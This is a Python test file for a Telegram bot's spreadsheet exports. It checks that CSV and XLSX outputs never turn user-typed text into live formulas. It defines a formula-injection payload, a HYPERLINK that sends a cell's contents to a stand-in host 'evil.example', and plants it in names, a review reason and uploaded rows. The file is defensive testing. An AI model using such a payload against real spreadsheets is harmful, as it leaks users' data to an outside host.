"""No spreadsheet the bot writes evaluates what people typed: names from invitations and
Telegram profiles, review reasons and uploaded files' cells reach /ekspor, the digest workbook
and the invalid-rows file as text a spreadsheet program shows but never runs."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Iterator
from pathlib import Path

from openpyxl import load_workbook

from bot.domain import Role, Verdict
from bot.files.cells import is_formula_like
from tests.support.harness import BotHarness, FakeClock, FakeUser
from tests.support.office import add_household, add_visit, wib

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
NOW = wib(2026, 12, 2, 10, 0)


def csv_cells(content: bytes) -> Iterator[str]:
    for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))):
        yield from row


def assert_no_formula(name: str, content: bytes) -> None:
    """No cell of the file is a formula, and a formula-like text is shown as it was typed."""
    if name.endswith(".csv"):
        formulas = [cell for cell in csv_cells(content) if is_formula_like(cell) and not _is_number(cell)]
        assert not formulas, name
        return
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in archive.read(sheet) for sheet in sheets), name
    for sheet in load_workbook(io.BytesIO(content)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{name} {sheet.title}!{cell.coordinate}"
                if is_formula_like(cell.value):
                    assert cell.quotePrefix, f"{name} {sheet.title}!{cell.coordinate}"


def _is_number(text: str) -> bool:
    """A negative number such as a latitude is written as it is: spreadsheets read it as a number."""
    try:
        float(text)
    except ValueError:
        return False
    return True


async def test_exports_digest_and_invalid_rows_hold_no_formula(tmp_path: Path) -> None:
    async with BotHarness(tmp_path, clock=FakeClock(NOW)) as bot:
        companion = await bot.register(Role.COMPANION, first_name="+62 811 " + EVIL)
        household = await add_household(bot, companion, "-Siti " + EVIL)
        visit_id = await add_visit(
            bot, household, companion, wib(2026, 11, 25, 10), verdict=Verdict.OUTSIDE, flags=("outside",)
        )
        coordinator = await bot.register(Role.COORDINATOR, regions=("3604",), first_name="@" + EVIL)
        assert coordinator.person is not None
        await bot.services.reviews.review(
            visit_id, status="rejected", reason="\t" + EVIL, reviewer_id=coordinator.person.id, at=wib(2026, 11, 26)
        )
        admin = await bot.register(Role.ADMIN)

        files: list[tuple[str, bytes]] = []
        for reader in (coordinator, admin):
            files += (await reader.command("ekspor", "2026-11-01", "2026-11-30")).documents()
        files += (await coordinator.command("ringkasan")).documents()
        files += await _invalid_rows_file(admin)

        names = [name for name, _ in files]
        assert sum(name.endswith(".csv") for name in names) == 3 and sum(name.endswith(".xlsx") for name in names) == 3
        for name, content in files:
            assert_no_formula(name, content)
        export = next(content for name, content in files if name.endswith(".csv"))
        assert "'-Siti " + EVIL in csv_cells(export), "shown as typed, behind the apostrophe"
        workbook = load_workbook(io.BytesIO(next(content for name, content in files if name.endswith(".xlsx"))))
        assert workbook.worksheets[0]["E2"].value == "-Siti " + EVIL


async def _invalid_rows_file(admin: FakeUser) -> list[tuple[str, bytes]]:
    quoted = EVIL.replace('"', '""')
    content = (
        "id_dtks,nama_kepala,kode_wilayah\n"
        f'3604000000000001,"{quoted}",3604\n'
        "=1+2,Siti,3604\n"
        "3604000000000003,Budi,@3604\n"
    ).encode()
    answer = await admin.send_document(content, "kpm.csv", "text/csv")
    assert "baris tidak valid: 3" in answer.text
    return answer.documents()
